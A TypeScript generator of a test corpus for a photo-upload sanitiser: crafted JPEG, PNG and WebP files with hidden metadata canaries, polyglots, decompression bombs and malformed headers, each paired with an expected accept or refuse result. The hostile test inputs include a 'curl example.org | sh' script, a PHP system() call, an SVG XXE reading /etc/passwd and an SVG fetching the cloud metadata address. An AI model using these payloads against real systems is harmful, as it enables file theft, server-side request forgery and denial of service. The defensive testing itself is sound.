import { deflateSync } from 'node:zlib'
import sharp, { type Sharp } from 'sharp'
import { createRandom } from '../../../../../torture/random.ts'
import type { PhotoRefusal } from '../photo-refused-error.ts'
import { canaryPrefix } from './inspect-developed.ts'
import {
  addJpegSegments,
  addPngChunks,
  brandBox,
  exifBlock,
  jpegSegment,
  pngChunk,
  pngHeader,
  pngSignature,
  riffChunk,
  webpChunks,
  webpFile,
  webpHeader,
} from './photo-containers.ts'

/** What becomes of a file. Whatever is accepted has to be clean. */
type Expectation =
  /** Accepted, and the four quarters are where they belong. */
  | 'upright'
  | 'accepted'
  /** Accepted or refused, with a reason. */
  | 'either'
  | PhotoRefusal

export interface CorpusFile {
  readonly group: string
  readonly name: string
  readonly bytes: Buffer
  readonly expected: Expectation
}

type Rgb = readonly [red: number, green: number, blue: number]
type Format = 'jpeg' | 'png' | 'webp'

const formats = ['jpeg', 'png', 'webp'] as const

export const patternWidth = 96
export const patternHeight = 128

/** Four quarters, no two alike: red, green, blue and yellow, read as a page. */
export const patternQuarters: readonly Rgb[] = [
  [220, 30, 30],
  [30, 170, 60],
  [40, 60, 210],
  [235, 205, 40],
]

const patternAt = (x: number, y: number): Rgb =>
  patternQuarters[(y < patternHeight / 2 ? 0 : 2) + (x < patternWidth / 2 ? 0 : 1)] ?? [0, 0, 0]

const right = patternWidth - 1
const bottom = patternHeight - 1
/** Where a stored pixel stands in the upright picture, by EXIF orientation. */
const uprightPlaces: readonly ((x: number, y: number) => readonly [x: number, y: number])[] = [
  (x, y) => [x, y],
  (x, y) => [right - x, y],
  (x, y) => [right - x, bottom - y],
  (x, y) => [x, bottom - y],
  (x, y) => [y, x],
  (x, y) => [right - y, x],
  (x, y) => [right - y, bottom - x],
  (x, y) => [y, bottom - x],
]

/** The pattern as a camera stores it that is held this way. */
function storedPattern(orientation: number): Sharp {
  const isSideways = orientation > 4
  const [width, height] = isSideways ? [patternHeight, patternWidth] : [patternWidth, patternHeight]
  const place = uprightPlaces[orientation - 1]
  if (place === undefined) throw new RangeError(`There is no orientation ${orientation}.`)
  const pixels = Buffer.alloc(width * height * 3)
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) pixels.set(patternAt(...place(x, y)), (y * width + x) * 3)
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
}

const encode = (image: Sharp, format: Format): Promise<Buffer> =>
  format === 'jpeg'
    ? image.clone().jpeg({ quality: 92 }).toBuffer()
    : format === 'png'
      ? image.clone().png().toBuffer()
      : image.clone().webp({ lossless: true }).toBuffer()

const flat = (width: number, height: number): Sharp =>
  sharp({ create: { width, height, channels: 3, background: '#a08060' } })

const canary = (name: string): string => `${canaryPrefix}${name}-Ada-Musterkind`

const xmp = `<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:mwg="http://www.metadataworkinggroup.com/schemas/regions/"><mwg:Name>${canary('xmp')}</mwg:Name></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
const html = `<html><script>alert("${canary('html')}")</script></html>`
const zip = Buffer.concat([
  Buffer.from('PK\x03\x04\x0a\0\0\0\0\0', 'latin1'),
  Buffer.from(canary('zip')),
  Buffer.from('PK\x05\x06', 'latin1'),
  Buffer.alloc(18),
])

/** Display P3, with a canary behind its end that its header counts in. */
async function createMarkedIcc(): Promise<Buffer> {
  const { icc } = await sharp(await flat(64, 64).withIccProfile('p3').jpeg().toBuffer()).metadata()
  const marked = Buffer.concat([icc ?? Buffer.alloc(0), Buffer.from(canary('icc').padEnd(64))])
  marked.writeUInt32BE(marked.byteLength, 0)
  return marked
}

function iptcSegment(): Buffer {
  const caption = Buffer.from(canary('iptc'))
  const record = Buffer.concat([Buffer.from([0x1c, 2, 120, 0, caption.byteLength]), caption])
  return jpegSegment(0xed, 'Photoshop 3.0\0', '8BIM\x04\x04\0\0\0\0\0', Buffer.from([record.byteLength]), record)
}

const exifSegment = (exif: Buffer): Buffer => jpegSegment(0xe1, 'Exif\0\0', exif)
const xmpSegment = (): Buffer => jpegSegment(0xe1, 'http://ns.adobe.com/xap/1.0/\0', xmp)
const iccSegment = (icc: Buffer): Buffer => jpegSegment(0xe2, 'ICC_PROFILE\0\x01\x01', icc)
const iccChunk = (icc: Buffer): Buffer => pngChunk('iCCP', Buffer.concat([Buffer.from('p3\0\0'), deflateSync(icc)]))

/** A WebP with chunks around its pixels. Flags: 2 animation, 4 XMP, 8 EXIF, 32 ICC. */
function dressWebp(
  webp: Buffer,
  size: readonly [number, number],
  dress: { readonly icc?: Buffer; readonly exif?: Buffer; readonly xmp?: string; readonly other?: Buffer },
): Buffer {
  const flags =
    (dress.icc === undefined ? 0 : 32) + (dress.exif === undefined ? 0 : 8) + (dress.xmp === undefined ? 0 : 4)
  return webpFile(
    webpHeader(...size, flags),
    ...(dress.icc === undefined ? [] : [riffChunk('ICCP', dress.icc)]),
    ...webpChunks(webp).filter((chunk) => chunk.toString('latin1', 0, 4) !== 'VP8X'),
    ...(dress.exif === undefined ? [] : [riffChunk('EXIF', dress.exif)]),
    ...(dress.xmp === undefined ? [] : [riffChunk('XMP ', Buffer.from(dress.xmp))]),
    ...(dress.other === undefined ? [] : [dress.other]),
  )
}

/** The pattern with everything around it that each format can carry. */
async function dressed(format: Format, orientation: number, exif: Buffer): Promise<Buffer> {
  const plain = await encode(storedPattern(orientation), format)
  if (format === 'jpeg') return addJpegSegments(plain, exifSegment(exif))
  if (format === 'png') return addPngChunks(plain, pngChunk('eXIf', exif))
  return dressWebp(plain, orientation > 4 ? [patternHeight, patternWidth] : [patternWidth, patternHeight], { exif })
}

/** One file of each format that carries every kind of secret at once. */
export async function createRichPhotos(): Promise<Readonly<Record<Format, Buffer>>> {
  const icc = await createMarkedIcc()
  const thumbnail = addJpegSegments(await flat(32, 32).jpeg().toBuffer(), jpegSegment(0xfe, canary('thumbnail')))
  const exif = exifBlock({ orientation: 6, text: canary('exif'), thumbnail })
  const pattern = storedPattern(6)
  return {
    jpeg: Buffer.concat([
      addJpegSegments(
        await encode(pattern, 'jpeg'),
        exifSegment(exif),
        xmpSegment(),
        iccSegment(icc),
        iptcSegment(),
        jpegSegment(0xe2, 'MPF\0', canary('mpf')),
        jpegSegment(0xef, canary('app15')),
        jpegSegment(0xfe, canary('comment')),
      ),
      Buffer.from(html),
      zip,
    ]),
    png: Buffer.concat([
      addPngChunks(
        await encode(pattern, 'png'),
        iccChunk(icc),
        pngChunk('eXIf', exif),
        pngChunk('tEXt', `Author\0${canary('text')}`),
        pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(canary('ztxt'))])),
        pngChunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${xmp}`),
        pngChunk('tIME', Buffer.from([7, 0xea, 1, 2, 3, 4, 5])),
        pngChunk('prVt', canary('private')),
      ),
      Buffer.from(html),
      zip,
    ]),
    webp: Buffer.concat([
      dressWebp(await encode(pattern, 'webp'), [patternHeight, patternWidth], {
        icc,
        exif,
        xmp,
        other: riffChunk('PRVT', Buffer.from(canary('private'))),
      }),
      Buffer.from(html),
      zip,
    ]),
  }
}

/** More than three hundred files as they come to a door that is open to families, and to others. */
export async function createPhotoCorpus(seed: number): Promise<CorpusFile[]> {
  const random = createRandom(seed)
  const below = (limit: number): number => Math.floor(random() * limit)
  const rich = await createRichPhotos()
  const files: CorpusFile[] = []
  const inGroup =
    (group: string) =>
    (name: string, bytes: Buffer | string, expected: Expectation): void => {
      files.push({ group, name, bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes, expected })
    }
  const plainJpeg = await encode(storedPattern(1), 'jpeg')
  const plainPng = await encode(storedPattern(1), 'png')
  const plainWebp = await encode(storedPattern(1), 'webp')
  const plain = { jpeg: plainJpeg, png: plainPng, webp: plainWebp }

  const orientation = inGroup('orientations')
  for (const format of formats) {
    for (let way = 1; way <= 8; way++) {
      for (const isLittleEndian of [false, true]) {
        const exif = exifBlock({ orientation: way, text: canary('exif'), isLittleEndian })
        const name = `${format}, orientation ${way}, ${isLittleEndian ? 'little' : 'big'} endian`
        orientation(name, await dressed(format, way, exif), 'upright')
      }
    }
    for (const way of [0, 9, 65535]) {
      const exif = exifBlock({ orientation: way, text: canary('exif') })
      orientation(`${format}, orientation ${way}`, await dressed(format, 1, exif), 'upright')
    }
  }

  const metadata = inGroup('metadata')
  const p3 = await createMarkedIcc()
  const exif = exifBlock({ orientation: 1, text: canary('exif') })
  for (const format of formats) metadata(`${format} with everything`, rich[format], 'upright')
  metadata('jpeg with XMP', addJpegSegments(plainJpeg, xmpSegment()), 'upright')
  metadata('jpeg with IPTC', addJpegSegments(plainJpeg, iptcSegment()), 'upright')
  metadata('jpeg with ICC', addJpegSegments(plainJpeg, iccSegment(p3)), 'accepted')
  metadata(
    'jpeg with an ICC that is none',
    addJpegSegments(plainJpeg, iccSegment(Buffer.from(canary('icc')))),
    'either',
  )
  metadata('jpeg with a comment', addJpegSegments(plainJpeg, jpegSegment(0xfe, canary('comment'))), 'upright')
  metadata(
    'jpeg with extended XMP',
    addJpegSegments(plainJpeg, jpegSegment(0xe1, `http://ns.adobe.com/xmp/extension/\0${xmp}`)),
    'upright',
  )
  for (let marker = 0xe0; marker <= 0xef; marker++) {
    // 224 and 238 have a meaning for the decoder, so that nonsense in them may be taken ill.
    const expected = marker === 0xe0 || marker === 0xee ? 'either' : 'upright'
    metadata(`jpeg with APP${marker - 0xe0}`, addJpegSegments(plainJpeg, jpegSegment(marker, canary('app'))), expected)
  }
  metadata(
    'jpeg with a preview in its EXIF',
    addJpegSegments(
      plainJpeg,
      exifSegment(exifBlock({ orientation: 1, text: canary('exif'), thumbnail: rich.jpeg.subarray(0, 4000) })),
    ),
    'upright',
  )
  metadata('jpeg with two EXIF blocks', addJpegSegments(plainJpeg, exifSegment(exif), exifSegment(exif)), 'upright')
  metadata('png with eXIf', addPngChunks(plainPng, pngChunk('eXIf', exif)), 'upright')
  metadata('png with ICC', addPngChunks(plainPng, iccChunk(p3)), 'accepted')
  metadata(
    'png with raw EXIF in text',
    addPngChunks(
      plainPng,
      pngChunk(
        'zTXt',
        Buffer.concat([
          Buffer.from('Raw profile type exif\0\0'),
          deflateSync(`\nexif\n${exif.byteLength}\n${exif.toString('hex')}\n`),
        ]),
      ),
    ),
    'upright',
  )
  for (const [keyword, type] of [
    ['Title', 'tEXt'],
    ['Location', 'tEXt'],
    ['Comment', 'tEXt'],
    ['parameters', 'tEXt'],
  ] as const) {
    metadata(`png with ${keyword}`, addPngChunks(plainPng, pngChunk(type, `${keyword}\0${canary(keyword)}`)), 'upright')
  }
  metadata(
    'png with text after its pixels',
    Buffer.concat([plainPng.subarray(0, -12), pngChunk('tEXt', `Late\0${canary('late')}`), plainPng.subarray(-12)]),
    'upright',
  )
  metadata('webp with XMP', dressWebp(plainWebp, [patternWidth, patternHeight], { xmp }), 'upright')
  metadata('webp with ICC', dressWebp(plainWebp, [patternWidth, patternHeight], { icc: p3 }), 'accepted')
  metadata(
    'webp with an unknown chunk',
    dressWebp(plainWebp, [patternWidth, patternHeight], { other: riffChunk('ABCD', Buffer.from(canary('chunk'))) }),
    'upright',
  )

  const trailing = inGroup('polyglots')
  const tails = {
    'a ZIP': zip,
    HTML: Buffer.from(html),
    JavaScript: Buffer.from(`*/=1;fetch("//example.org/${canary('js')}")//`),
    'another photo': rich.jpeg,
    'a movie': Buffer.concat([brandBox('mp42', 'isom'), Buffer.from(canary('movie'))]),
    'a PDF': Buffer.from(`%PDF-1.7 ${canary('pdf')}`),
    PHP: Buffer.from(`<?php system("${canary('php')}"); ?>`),
    'nothing but zeros': Buffer.alloc(50_000),
  }
  for (const format of formats) {
    for (const [name, tail] of Object.entries(tails)) {
      trailing(`${format} and then ${name}`, Buffer.concat([plain[format], tail]), 'upright')
    }
  }
  trailing(
    'jpeg that opens a comment of JavaScript',
    addJpegSegments(
      plainJpeg,
      jpegSegment(0xe5, `/*${canary('js')}`),
      jpegSegment(0xfe, `*/=alert("${canary('js')}")/*`),
    ),
    'upright',
  )
  trailing('jpeg with HTML in a comment', addJpegSegments(plainJpeg, jpegSegment(0xfe, html)), 'upright')
  trailing('GIF that is JavaScript too', `GIF89a/*${canary('gif')}*/=1;alert(1)`, 'not-a-photo')
  trailing('GIF that is a ZIP too', Buffer.concat([await flat(64, 64).gif().toBuffer(), zip]), 'not-a-photo')
  trailing('HTML and then a jpeg', Buffer.concat([Buffer.from(html), plainJpeg]), 'not-a-photo')
  trailing('ZIP and then a png', Buffer.concat([zip, plainPng]), 'not-a-photo')

  const magic = inGroup('wrong magic')
  const withMagic = (bytes: Buffer, magicBytes: Buffer): Buffer =>
    Buffer.concat([magicBytes, bytes.subarray(magicBytes.byteLength)])
  magic('png that begins as a jpeg', withMagic(plainPng, plainJpeg.subarray(0, 4)), 'broken')
  magic('webp that begins as a jpeg', withMagic(plainWebp, plainJpeg.subarray(0, 4)), 'broken')
  magic('jpeg that begins as a png', withMagic(plainJpeg, pngSignature), 'broken')
  magic('webp that begins as a png', withMagic(plainWebp, pngSignature), 'broken')
  magic('jpeg that begins as a webp', withMagic(plainJpeg, plainWebp.subarray(0, 12)), 'broken')
  magic('jpeg within a webp', webpFile(riffChunk('VP8 ', plainJpeg)), 'broken')
  magic('png without its signature', plainPng.subarray(8), 'not-a-photo')
  magic('jpeg after one byte', Buffer.concat([Buffer.from([0]), plainJpeg]), 'not-a-photo')
  magic('HTML that begins as a jpeg', Buffer.concat([plainJpeg.subarray(0, 4), Buffer.from(html)]), 'broken')
  magic(
    'SVG that begins as a png',
    Buffer.concat([pngSignature, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')]),
    'broken',
  )
  magic(
    'TIFF that begins as a jpeg',
    withMagic(await flat(80, 80).tiff().toBuffer(), plainJpeg.subarray(0, 4)),
    'broken',
  )
  for (const format of formats) magic(`the magic of a ${format} alone`, plain[format].subarray(0, 12), 'broken')
  magic('RIFF that is a sound', 'RIFF\x24\0\0\0WAVEfmt ', 'not-a-photo')
  magic('a jpeg of two bytes', plainJpeg.subarray(0, 2), 'not-a-photo')

  const damage = inGroup('truncated')
  for (const format of formats) {
    const pixelsEnd = plain[format].byteLength
    for (let part = 1; part <= 24; part++) {
      const length = Math.floor((rich[format].byteLength * part) / 25)
      damage(`rich ${format}, ${length} bytes of it`, rich[format].subarray(0, length), 'either')
    }
    for (const part of [0.3, 0.5, 0.7, 0.9]) {
      damage(`${format}, ${part} of it`, plain[format].subarray(0, Math.floor(pixelsEnd * part)), 'broken')
    }
  }

  const flips = inGroup('bit flips')
  for (const format of formats) {
    for (let count = 0; count < 25; count++) {
      const bytes = Buffer.from(rich[format])
      for (let flip = 0; flip <= count % 5; flip++) {
        const at = below(bytes.byteLength)
        bytes[at] = (bytes[at] ?? 0) ^ (1 << below(8))
      }
      flips(`${format}, flipped ${count}`, bytes, 'either')
    }
  }

  const colour = inGroup('colours')
  const pattern = storedPattern(1)
  const alpha = pattern.clone().ensureAlpha(0.5)
  colour('CMYK jpeg', await pattern.clone().toColourspace('cmyk').jpeg().toBuffer(), 'accepted')
  colour('grey jpeg', await pattern.clone().greyscale().jpeg().toBuffer(), 'accepted')
  colour('grey png', await pattern.clone().greyscale().png().toBuffer(), 'accepted')
  colour('grey and alpha png', await alpha.clone().greyscale().png().toBuffer(), 'accepted')
  colour('16-bit png', await pattern.clone().toColourspace('rgb16').png().toBuffer(), 'upright')
  colour('16-bit alpha png', await pattern.clone().ensureAlpha(1).toColourspace('rgb16').png().toBuffer(), 'upright')
  colour('16-bit grey png', await pattern.clone().toColourspace('grey16').png().toBuffer(), 'accepted')
  colour('palette png', await pattern.clone().png({ palette: true }).toBuffer(), 'upright')
  colour(
    'palette and alpha png',
    await pattern.clone().ensureAlpha(1).png({ palette: true, colours: 8 }).toBuffer(),
    'upright',
  )
  colour(
    'palette of two png',
    await pattern.clone().greyscale().png({ palette: true, colours: 2 }).toBuffer(),
    'accepted',
  )
  colour('interlaced png', await pattern.clone().png({ progressive: true }).toBuffer(), 'upright')
  colour('alpha png', await alpha.clone().png().toBuffer(), 'accepted')
  colour('alpha webp', await alpha.clone().webp().toBuffer(), 'accepted')
  colour('lossless webp', await pattern.clone().webp({ lossless: true }).toBuffer(), 'upright')
  colour('lossy webp', await pattern.clone().webp({ quality: 90 }).toBuffer(), 'upright')
  colour('progressive jpeg', await pattern.clone().jpeg({ progressive: true }).toBuffer(), 'upright')
  colour('mozjpeg', await pattern.clone().jpeg({ mozjpeg: true }).toBuffer(), 'upright')
  colour('4:4:4 jpeg', await pattern.clone().jpeg({ chromaSubsampling: '4:4:4' }).toBuffer(), 'upright')
  colour('jpeg of the lowest quality', await pattern.clone().jpeg({ quality: 1 }).toBuffer(), 'accepted')
  for (const profile of ['p3', 'srgb'] as const) {
    for (const format of formats) {
      colour(`${profile} ${format}`, await encode(pattern.clone().withIccProfile(profile), format), 'upright')
    }
  }
  colour(
    'cmyk with its profile',
    await pattern.clone().withIccProfile('cmyk').toColourspace('cmyk').jpeg().toBuffer(),
    'accepted',
  )

  const size = inGroup('sizes')
  const sizes: readonly (readonly [number, number, Expectation])[] = [
    [1, 1, 'too-small'],
    [63, 64, 'too-small'],
    [64, 63, 'too-small'],
    [64, 64, 'accepted'],
    [10, 9000, 'too-small'],
    [9000, 10, 'too-small'],
    [9000, 100, 'too-small'],
    [2048, 64, 'accepted'],
    [64, 2048, 'accepted'],
    [2049, 1500, 'accepted'],
    [1500, 3000, 'accepted'],
  ]
  for (const [width, height, expected] of sizes) {
    for (const format of formats)
      size(`${format} of ${width} × ${height}`, await encode(flat(width, height), format), expected)
  }
  size('png of 20000 × 10', await encode(flat(20_000, 10), 'png'), 'too-small')
  size('25 MB and one byte', Buffer.concat([plainJpeg, Buffer.alloc(25_000_001 - plainJpeg.byteLength)]), 'too-large')
  size('25 MB', Buffer.concat([plainJpeg, Buffer.alloc(25_000_000 - plainJpeg.byteLength)]), 'upright')

  const frames = inGroup('animations')
  const magenta = Buffer.alloc(patternWidth * patternHeight * 3, Buffer.from([255, 0, 255]))
  const strip = Buffer.concat([await pattern.clone().raw().toBuffer(), magenta, magenta])
  const animated = await sharp(strip, {
    raw: { width: patternWidth, height: patternHeight * 3, channels: 3, pageHeight: patternHeight },
  })
    .webp({ lossless: true, loop: 0, delay: [100, 100, 100] })
    .toBuffer()
  frames('webp of three frames', animated, 'upright')
  const lastFrame = webpChunks(animated).slice(-1)
  frames(
    'webp of 5,000 frames',
    webpFile(...webpChunks(animated), ...Array.from({ length: 5000 }, () => lastFrame).flat()),
    'either',
  )
  frames(
    'webp that says it moves and does not',
    webpFile(webpHeader(patternWidth, patternHeight, 2), ...webpChunks(plainWebp)),
    'either',
  )
  const control = Buffer.alloc(26)
  control.writeUInt32BE(patternWidth, 4)
  control.writeUInt32BE(patternHeight, 8)
  frames(
    'png that moves',
    addPngChunks(plainPng, pngChunk('acTL', Buffer.from([0, 0, 0, 1, 0, 0, 0, 0])), pngChunk('fcTL', control)),
    'upright',
  )

  const bomb = inGroup('bombs')
  const emptyPixels = pngChunk('IDAT', deflateSync(Buffer.alloc(1000)))
  const end = pngChunk('IEND', '')
  for (const [width, height] of [
    [50_000, 50_000],
    [7072, 7072],
    [1_000_000, 51],
    [100_000, 100_000],
    [60_000, 834],
  ] as const) {
    const header = pngHeader({ width, height, bitDepth: 8, colourType: 2 })
    bomb(`png that says ${width} × ${height}`, Buffer.concat([header, emptyPixels, end]), 'too-many-pixels')
  }
  for (const side of [2 ** 31 - 1, 2 ** 32 - 1]) {
    bomb(
      `png that says ${side} × ${side}`,
      Buffer.concat([pngHeader({ width: side, height: side, bitDepth: 1, colourType: 0 }), emptyPixels, end]),
      'broken',
    )
  }
  for (const isInterlaced of [false, true]) {
    const header = pngHeader({ width: 7000, height: 7000, bitDepth: 16, colourType: 6, isInterlaced })
    bomb(
      `png that says 7000 × 7000${isInterlaced ? ', interlaced' : ''}, of 16 bits`,
      Buffer.concat([header, emptyPixels, end]),
      'broken',
    )
  }
  const blackRows = deflateSync(Buffer.alloc(7000 * (1 + 7000 / 8)))
  bomb(
    'png of 49 million black pixels',
    Buffer.concat([
      pngHeader({ width: 7000, height: 7000, bitDepth: 1, colourType: 0 }),
      pngChunk('IDAT', blackRows),
      end,
    ]),
    'accepted',
  )
  const sizedJpeg = (width: number, height: number): Buffer => {
    const bytes = Buffer.from(plainJpeg)
    const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
    bytes.writeUInt16BE(height, frame + 5)
    bytes.writeUInt16BE(width, frame + 7)
    return bytes
  }
  bomb('jpeg that says 65500 × 65500', sizedJpeg(65_500, 65_500), 'too-many-pixels')
  bomb('jpeg that says 10000 × 5001', sizedJpeg(10_000, 5001), 'too-many-pixels')
  bomb('jpeg that says 7000 × 7000', sizedJpeg(7000, 7000), 'broken')
  bomb('jpeg without a height', sizedJpeg(96, 0), 'broken')
  bomb('webp that says 16383 × 16383', webpFile(webpHeader(16_383, 16_383, 0), ...webpChunks(plainWebp)), 'either')
  bomb('webp that says 16777216 × 256', webpFile(webpHeader(16_777_216, 256, 0), ...webpChunks(plainWebp)), 'either')
  bomb(
    'webp that says 16383 × 16383 and moves',
    webpFile(webpHeader(16_383, 16_383, 2), ...webpChunks(animated).slice(1)),
    'too-many-pixels',
  )
  const progressive = await pattern.clone().jpeg({ progressive: true }).toBuffer()
  const lastScan = progressive.subarray(progressive.lastIndexOf(Buffer.from([0xff, 0xda])), -2)
  bomb(
    'jpeg of 5,000 scans',
    Buffer.concat([
      progressive.subarray(0, -2),
      ...Array.from({ length: 5000 }, () => lastScan),
      progressive.subarray(-2),
    ]),
    'either',
  )
  const manySegments = (count: number, content: Buffer): Buffer[] =>
    Array.from({ length: count }, () => jpegSegment(0xe1, content))
  bomb(
    'jpeg with 200 blocks of EXIF',
    addJpegSegments(
      plainJpeg,
      ...manySegments(200, Buffer.concat([Buffer.from('Exif\0\0'), exif, Buffer.alloc(60_000)])),
    ),
    'either',
  )
  bomb('jpeg with 20,000 empty blocks', addJpegSegments(plainJpeg, ...manySegments(20_000, Buffer.alloc(0))), 'either')
  const exifBomb = (name: string, change: (exif: Buffer) => void): void => {
    const bytes = Buffer.from(exif)
    change(bytes)
    bomb(`jpeg with EXIF ${name}`, addJpegSegments(plainJpeg, exifSegment(bytes)), 'either')
    bomb(`png with EXIF ${name}`, addPngChunks(plainPng, pngChunk('eXIf', bytes)), 'either')
  }
  exifBomb('that says 65535 entries', (bytes) => bytes.writeUInt16BE(65_535, 8))
  exifBomb('that points at itself', (bytes) => bytes.writeUInt32BE(8, 8 + 2 + 36))
  exifBomb('whose places are within itself', (bytes) => bytes.writeUInt32BE(8, 8 + 2 + 24 + 8))
  exifBomb('of four billion letters', (bytes) => bytes.writeUInt32BE(0xffffffff, 8 + 2 + 4))
  exifBomb('of zeros', (bytes) => bytes.fill(0, 8))
  const inflated = deflateSync(Buffer.alloc(60_000_000))
  const words = (text: string): Buffer => Buffer.from(text, 'latin1')
  bomb(
    'png with 60 MB of zTXt',
    addPngChunks(plainPng, pngChunk('zTXt', Buffer.concat([words('Comment\0\0'), inflated]))),
    'either',
  )
  bomb(
    'png with 60 MB of iTXt',
    addPngChunks(plainPng, pngChunk('iTXt', Buffer.concat([words('Comment\0\x01\0\0\0'), inflated]))),
    'either',
  )
  bomb(
    'png with 60 MB of ICC',
    addPngChunks(plainPng, pngChunk('iCCP', Buffer.concat([words('bomb\0\0'), inflated]))),
    'either',
  )
  bomb(
    'png with 20,000 texts',
    addPngChunks(
      plainPng,
      ...Array.from({ length: 20_000 }, (_, index) => pngChunk('tEXt', `Key${index}\0${canary('text')}`)),
    ),
    'either',
  )
  bomb(
    'png with 2,000 packed texts',
    addPngChunks(
      plainPng,
      ...Array.from({ length: 2000 }, () =>
        pngChunk('zTXt', Buffer.concat([words('Comment\0\0'), deflateSync(Buffer.alloc(100_000))])),
      ),
    ),
    'either',
  )
  bomb(
    'png with one text of 20 MB',
    addPngChunks(plainPng, pngChunk('tEXt', Buffer.concat([words('Comment\0'), Buffer.alloc(20_000_000, 65)]))),
    'either',
  )
  bomb(
    'png with 100,000 empty pixel chunks',
    Buffer.concat([
      plainPng.subarray(0, 33),
      ...Array.from({ length: 100_000 }, () => pngChunk('IDAT', '')),
      plainPng.subarray(33),
    ]),
    'either',
  )
  const greedyIcc = Buffer.from(p3)
  greedyIcc.writeUInt32BE(0xffffffff, 128)
  bomb('jpeg with an ICC of four billion tags', addJpegSegments(plainJpeg, iccSegment(greedyIcc)), 'either')
  bomb('png with an ICC of four billion tags', addPngChunks(plainPng, iccChunk(greedyIcc)), 'either')
  bomb(
    'webp with an ICC of four billion tags',
    dressWebp(plainWebp, [patternWidth, patternHeight], { icc: greedyIcc }),
    'either',
  )

  const other = inGroup('no photo')
  other('nothing', '', 'not-a-photo')
  other('one byte', '\xff', 'not-a-photo')
  other('zeros', Buffer.alloc(10_000), 'not-a-photo')
  other('a GIF', await flat(80, 80).gif().toBuffer(), 'not-a-photo')
  other('a TIFF', await flat(80, 80).tiff().toBuffer(), 'not-a-photo')
  other('an AVIF', await flat(80, 80).avif({ effort: 0 }).toBuffer(), 'not-a-photo')
  other(
    'an SVG with a script',
    `<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><script>alert(1)</script></svg>`,
    'not-a-photo',
  )
  other(
    'an SVG with an entity',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    'not-a-photo',
  )
  other(
    'an SVG with a picture from elsewhere',
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>`,
    'not-a-photo',
  )
  other(
    'a BMP',
    Buffer.concat([words('BM'), Buffer.from([70, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0]), Buffer.alloc(60)]),
    'not-a-photo',
  )
  other('a PDF', `%PDF-1.7\n${canary('pdf')}`, 'not-a-photo')
  for (const brand of ['heic', 'heix', 'heim', 'heis', 'hevc', 'hevx', 'mif1', 'msf1']) {
    other(`HEIC of brand ${brand}`, Buffer.concat([brandBox(brand, 'mif1', 'heic'), Buffer.alloc(500)]), 'heic')
  }
  other(
    'an AVIF that names HEIC brands',
    Buffer.concat([brandBox('mif1', 'avif', 'miaf'), Buffer.alloc(500)]),
    'not-a-photo',
  )
  for (const brand of ['isom', 'mp42', 'M4V ', 'qt  ', '3gp5'])
    other(`a movie of brand ${brand}`, Buffer.concat([brandBox(brand, 'isom'), Buffer.alloc(500)]), 'not-a-photo')
  other('a QuickTime movie without brand', '\0\0\0\x08wide\0\0\0\0mdat', 'not-a-photo')
  other('an AVI', 'RIFF\0\0\0\0AVI LIST', 'not-a-photo')
  other('a Matroska', '\x1aE\xdf\xa3\0\0\0\0', 'not-a-photo')
  other('a ZIP', zip, 'not-a-photo')
  other('a web page', html, 'not-a-photo')
  other('a script', '#!/bin/sh\ncurl example.org | sh', 'not-a-photo')
  other('a program', Buffer.concat([words('\x7fELF'), Buffer.alloc(200)]), 'not-a-photo')
  other('a program for Windows', Buffer.concat([words('MZ'), Buffer.alloc(200)]), 'not-a-photo')
  other('JPEG XL', Buffer.from([0xff, 0x0a, 1, 2, 3, 4]), 'not-a-photo')
  other('JPEG 2000', Buffer.from([0, 0, 0, 12, 0x6a, 0x50, 0x20, 0x20, 0x0d, 0x0a, 0x87, 0x0a]), 'not-a-photo')
  other('Photoshop', '8BPS\0\x01\0\0\0\0\0\0', 'not-a-photo')
  other('an icon', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0]), 'not-a-photo')
  other('libvips, its own', Buffer.concat([Buffer.from([8, 0xf2, 0xa6, 0xb6]), Buffer.alloc(100)]), 'not-a-photo')
  other('portable pixels', 'P6 80 80 255\n', 'not-a-photo')
  for (let count = 0; count < 12; count++) {
    const noise = Buffer.from(Array.from({ length: 1 + below(4000) }, () => below(256)))
    other(`noise ${count}`, Buffer.concat([Buffer.from([7]), noise]), 'not-a-photo')
    for (const format of formats) {
      const beginning = plain[format].subarray(0, 12 + below(60))
      // Its size is noise as well, so it may be refused for that.
      other(`noise ${count} that begins as a ${format}`, Buffer.concat([beginning, noise]), 'either')
    }
  }
  return files
}
